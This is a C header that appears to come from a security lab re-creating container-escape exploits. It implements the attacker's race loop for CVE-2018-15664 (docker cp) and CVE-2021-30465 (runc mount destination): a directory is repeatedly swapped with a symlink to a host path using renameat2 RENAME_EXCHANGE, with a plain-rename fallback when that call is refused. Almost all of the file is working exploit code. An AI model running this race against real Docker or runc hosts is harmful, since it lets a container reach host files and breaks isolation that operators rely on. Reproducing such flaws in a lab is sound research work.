/*
 * The attacker's directory/symlink swap two re-creations share: a directory the host-side runtime
 * resolves a path through, and next to it (<dir>.swap) a symlink to a host path, exchanged with
 * renameat2(RENAME_EXCHANGE) in a tight loop, as the published PoCs do; when RENAME_EXCHANGE is
 * refused (seccomp), three plain renames (non-atomic: the directory is briefly missing) unless the
 * fallback is off. Shared by
 *   - docker-cp-symlink-race (CVE-2018-15664): <dir> is where `docker cp` extracts to;
 *   - runc-mount-destination-symlink-exchange (CVE-2021-30465): <dir> is a volume mount's
 *     destination inside another, shared volume (c1's swap; its own exposer symlink comes first);
 * (their attack.c include this header; the build passes -I lab/vulnerable/common). Each attack.c
 * keeps its arguments, its steps' names and what else it does; here is swap_run: create <dir> and
 * the symlink, create <dir's parent>/.ready once the loop runs (the manager waits for it), loop for
 * at most 12 s (the manager kills it).
 * Static functions: include it once per program (from attack.c), after defining _GNU_SOURCE.
 */
#ifndef SWAP_H
#define SWAP_H

#ifndef _GNU_SOURCE
#error "define _GNU_SOURCE before any include (syscall, SYS_renameat2)"
#endif

#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

/* With `tolerate`: after this many failed renames the loop gives up. */
#define SWAP_MAX_ERRORS 100000

struct swap_spec {
  const char *dir;    /* the directory the runtime resolves a path through */
  const char *target; /* where the symlink <dir>.swap points: an absolute path ON THE HOST */
  int fallback;       /* RENAME_EXCHANGE refused: go on with three renames (0: return 1) */
  /* Three renames: 0, the first failed rename ends the loop (return 1); 1, a failed round is undone
     as far as it can be and the loop goes on (the runtime may create <dir> while it is missing,
     as runc's MkdirAll of a mount destination does), up to SWAP_MAX_ERRORS failures. */
  int tolerate;
  /* The steps' names: create <dir>, create the symlink, exchange, three renames. */
  const char *step_mkdir, *step_symlink, *step_exchange, *step_renames;
};

/* One round of three renames (<dir> -> <stash>, <swap> -> <dir>, <stash> -> <swap>) that tolerates
   the runtime creating <dir> while it is missing; counts failures in *errors. */
static int swap_plain(const char *dir, const char *swap, const char *stash, unsigned long *errors) {
  if (rename(dir, stash) != 0) {
    (*errors)++;
    return -1;
  }
  if (rename(swap, dir) != 0) {
    (*errors)++;
    /* Someone created <dir> meanwhile: remove the empty directory and go on. */
    if (errno == EISDIR || errno == ENOTEMPTY || errno == EEXIST) rmdir(dir);
    rename(stash, dir);
    return -1;
  }
  if (rename(stash, swap) != 0) {
    (*errors)++;
    return -1;
  }
  return 0;
}

/* The attacker's loop (see the top of this file). Returns the attack's exit code: 0 when the time
   is up, 1 when a step failed (its bw_step line says which). */
static int swap_run(const struct swap_spec *s) {
  const char *dir = s->dir;
  char parentbuf[4096], swap[4200], stash[4200], ready[4200];
  snprintf(parentbuf, sizeof parentbuf, "%s", dir);
  const char *parent = dirname(parentbuf);
  snprintf(swap, sizeof swap, "%s.swap", dir);
  snprintf(stash, sizeof stash, "%s.stash", dir);
  snprintf(ready, sizeof ready, "%s/.ready", parent);
  if (bw_mkdirs(dir, 0755) != 0) {
    bw_step(s->step_mkdir, 0, errno, dir);
    return 1;
  }
  unlink(swap);
  if (symlink(s->target, swap) != 0) {
    bw_step(s->step_symlink, 0, errno, swap);
    return 1;
  }
  bw_step(s->step_symlink, 1, 0, s->target);
  if (bw_write_file(ready, "") != 0) return 1;

  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  int atomic = 1;
  unsigned long swaps = 0, errors = 0;
  for (;;) {
    if ((swaps & 1023) == 0) {
      clock_gettime(CLOCK_MONOTONIC, &now);
      if (now.tv_sec - start.tv_sec >= 12) break;
    }
    if (atomic) {
      if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, swap, RENAME_EXCHANGE) == 0) {
        if (swaps++ == 0) bw_step(s->step_exchange, 1, 0, dir);
        continue;
      }
      bw_step(s->step_exchange, 0, errno, dir);
      if (!s->fallback) return 1;
      atomic = 0;
    }
    if (!s->tolerate) {
      /* Non-atomic swap: dir -> stash, swap -> dir, stash -> swap. */
      if (rename(dir, stash) != 0 || rename(swap, dir) != 0 || rename(stash, swap) != 0) {
        bw_step(s->step_renames, 0, errno, dir);
        return 1;
      }
      if (swaps++ == 0) bw_step(s->step_renames, 1, 0, dir);
      continue;
    }
    if (swap_plain(dir, swap, stash, &errors) == 0 && swaps++ == 0) bw_step(s->step_renames, 1, 0, dir);
    if (errors > SWAP_MAX_ERRORS) {
      bw_step(s->step_renames, 0, errno, "too many failures");
      return 1;
    }
  }
  return 0;
}

#endif
